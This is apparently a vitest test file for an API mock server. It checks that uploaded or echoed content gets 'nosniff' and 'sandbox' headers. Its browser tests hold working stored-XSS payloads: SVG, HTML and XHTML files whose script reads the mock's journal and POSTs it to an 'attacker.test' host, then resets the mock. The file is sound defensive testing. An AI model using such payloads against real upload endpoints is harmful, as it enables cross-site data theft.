import { once } from 'node:events';
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, describe, expect, test } from 'vitest';
import { createMock } from '../src/index.ts';
import { type Ask, closeAll, describeAdapters, json } from './support/adapters.ts';
import { BROWSERS, launch } from './support/browsers.ts';
import { documentOf } from './support/documents.ts';

afterAll(closeAll);

const INTEGER = { type: 'integer' };
const ID = { name: 'id', in: 'path', required: true, schema: INTEGER };
const BINARY = { type: 'string', format: 'binary' };
const NOTE = {
  type: 'object',
  required: ['id'],
  properties: { id: INTEGER, text: { type: 'string' } },
};
const TYPES = ['application/json', 'application/xml', 'text/csv', 'text/plain'];
const FORM = { 'multipart/form-data': { schema: { type: 'object', properties: { photo: BINARY } } } };
const PAGE = '<!DOCTYPE html><script>alert(1)</script>';

function answering(content: object, status = 200): object {
  return { responses: { [status]: { description: 'It.', content } } };
}

function inAll(schema: object): object {
  return Object.fromEntries(TYPES.map((type) => [type, { schema }]));
}

const SPEC = documentOf({
  '/notes': {
    get: answering(inAll({ type: 'array', items: NOTE })),
    post: {
      ...answering({ 'application/json': { schema: NOTE } }, 201),
      requestBody: { content: { 'application/json': { schema: NOTE } } },
    },
  },
  '/notes/{id}': { parameters: [ID], get: answering(inAll(NOTE)) },
  '/notes/{id}/photo': {
    parameters: [ID],
    get: answering({ '*/*': { schema: BINARY } }),
    post: { ...answering({}, 200), requestBody: { content: { '*/*': { schema: BINARY }, ...FORM } } },
  },
  '/welcome': { get: answering({ 'text/html': { schema: { type: 'string' }, example: PAGE } }) },
  '/echo': {
    get: {
      parameters: [{ name: 'text', in: 'query', schema: { type: 'string' } }],
      ...answering({
        'application/xml': { schema: { type: 'object', properties: { text: { type: 'string' } } } },
      }),
    },
  },
  '/refused': {
    get: {
      parameters: [{ name: 'kind', in: 'query', schema: { enum: ['one'] } }],
      responses: {
        200: { description: 'It.' },
        400: { description: 'No.', content: { 'text/plain': { schema: { type: 'string' } } } },
      },
    },
  },
});

/** The two headers that keep a browser from running what a client sent. */
async function guardOf(ask: Ask, path: string, accept?: string): Promise<(string | null)[]> {
  const { headers } = await ask(path, accept === undefined ? {} : { headers: { Accept: accept } });
  return [headers.get('x-content-type-options'), headers.get('content-security-policy')];
}

const GUARDED = ['nosniff', 'sandbox'];

describeAdapters('An answer that a browser could open as a page', ({ open }) => {
  test.each([
    'image/svg+xml',
    'text/html',
    'application/xhtml+xml',
    'text/xml',
    'text/plain',
    'image/png',
    'application/octet-stream',
  ])('runs nothing of an uploaded file of the type %s', async (type) => {
    const { ask } = await open({ spec: SPEC });
    await ask('/notes/1/photo', { method: 'POST', headers: { 'Content-Type': type }, body: PAGE });
    const { headers } = await ask('/notes/1/photo');
    expect(headers.get('content-type')).toBe(type);
    expect(await guardOf(ask, '/notes/1/photo')).toEqual(GUARDED);
  });

  test.each(TYPES.slice(1))('runs nothing of an entity as %s', async (type) => {
    const { ask } = await open({ spec: SPEC });
    const created = await ask('/notes', json('POST', { id: 900, text: PAGE }));
    expect(created.status).toBe(201);
    for (const path of ['/notes/900', '/notes?id=900'])
      expect(await guardOf(ask, path, type)).toEqual(GUARDED);
  });

  test.each([
    ['a value of the query', '/echo?text=%3Cscript%3E'],
    ['an error that quotes the request', '/refused?kind=%3Cscript%3E'],
  ])('runs nothing of %s', async (_, path) => {
    const { ask } = await open({ spec: SPEC });
    expect(await guardOf(ask, path)).toEqual(GUARDED);
  });

  test('is guarded also when it is repeated, and when only its head is asked for', async () => {
    const { ask } = await open({ spec: SPEC });
    expect(await guardOf(ask, '/notes/1', 'text/xml, application/xml')).toEqual(GUARDED);
    expect(await guardOf(ask, '/notes/1', 'text/xml, application/xml')).toEqual(GUARDED);
    const { headers } = await ask('/notes/1', { method: 'HEAD', headers: { Accept: 'application/xml' } });
    expect(headers.get('content-security-policy')).toBe('sandbox');
  });

  test('runs its scripts if it is an example of the document', async () => {
    const { ask } = await open({ spec: SPEC });
    expect(await guardOf(ask, '/welcome')).toEqual([null, null]);
  });

  test('has no such headers if it is JSON, or has no content', async () => {
    const { ask } = await open({ spec: SPEC });
    for (const path of ['/notes', '/notes/1', '/nowhere'])
      expect(await guardOf(ask, path)).toEqual([null, null]);
    expect(await guardOf(ask, '/refused')).toEqual([null, null]);
  });

  test('keeps the policy that the document declares', async () => {
    const policy = "default-src 'none'";
    const headers = { 'content-security-policy': { schema: { type: 'string' }, example: policy } };
    const spec = documentOf({
      '/notes/{id}': {
        parameters: [ID],
        get: {
          responses: {
            200: { description: 'It.', headers, content: { 'application/xml': { schema: NOTE } } },
          },
        },
      },
    });
    const { ask } = await open({ spec });
    expect(await guardOf(ask, '/notes/1')).toEqual(['nosniff', `${policy}, sandbox`]);
  });
});

/** A script that reads the journal and resets the mock, and hands what it read to the attacker. */
function toScript(leak: string): string {
  return `fetch('/__mock/journal').then((answer) => answer.text()).then((text) =>
    fetch('${leak}', { method: 'POST', mode: 'no-cors', body: text })).then(() =>
    fetch('/__mock/reset', { method: 'POST' })).finally(() => { document.title = 'done'; });`;
}

/** The page of the attacker: a plain form whose file it fills in, sent to the mock of whoever opens it. */
function toAttack(target: string, name: string, type: string, content: string): string {
  const file = JSON.stringify([name, type, content]).replaceAll('<', '\\u003c');
  return `<!DOCTYPE html><form method="post" enctype="multipart/form-data" action="${target}">
    <input type="file" name="photo"></form><script>
    const [name, type, content] = ${file};
    const transfer = new DataTransfer();
    transfer.items.add(new File([content], name, { type }));
    document.querySelector('input').files = transfer.files;
    document.querySelector('form').submit();</script>`;
}

const ATTACKS: readonly (readonly [name: string, type: string, wrap: (script: string) => string])[] = [
  [
    'cat.svg',
    'image/svg+xml',
    (script) => `<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[${script}]]></script></svg>`,
  ],
  ['cat.html', 'text/html', (script) => `<!DOCTYPE html><script>${script}</script>`],
  [
    'cat.xhtml',
    'application/xhtml+xml',
    (script) =>
      `<html xmlns="http://www.w3.org/1999/xhtml"><head><script><![CDATA[${script}]]></script></head></html>`,
  ],
  ['cat.txt', 'text/plain', (script) => `<!DOCTYPE html><script>${script}</script>`],
];

const ATTACKER = 'attacker.test';

describe.each(BROWSERS)('A foreign page that uploads a script, in %s', (path) => {
  test('neither reads the journal nor resets the mock', { timeout: 60_000 }, async () => {
    const mock = await createMock({ spec: SPEC });
    const { url } = await mock.listen();
    const leaked: string[] = [];
    let page = '';
    const answer = async (request: IncomingMessage, response: ServerResponse) => {
      if (request.method === 'POST') leaked.push(String(await request.toArray()));
      response.setHeader('Content-Type', 'text/html').end(page);
    };
    const attacker = createServer((request, response) => void answer(request, response)).listen(0);
    await once(attacker, 'listening');
    const foreign = `http://${ATTACKER}:${(attacker.address() as AddressInfo).port}/`;
    const browser = await launch(path, ATTACKER);
    try {
      const victim = await browser.newPage();
      for (const [name, type, wrap] of ATTACKS) {
        page = toAttack(`${url}/notes/1/photo`, name, type, wrap(toScript(foreign)));
        await victim.goto(foreign);
        await victim.waitForURL(`${url}/notes/1/photo`);
        const opened = await victim.goto(`${url}/notes/1/photo`);
        expect(opened?.headers()['content-type']).toBe(type);
        // A script that runs is done long before that.
        await victim.waitForTimeout(500);
        const [first] = mock.journal;
        expect([leaked, first?.method, first?.path]).toEqual([[], 'POST', '/notes/1/photo']);
        mock.reset();
      }
    } finally {
      await browser.close();
      attacker.close();
      await mock.close();
    }
  });
});
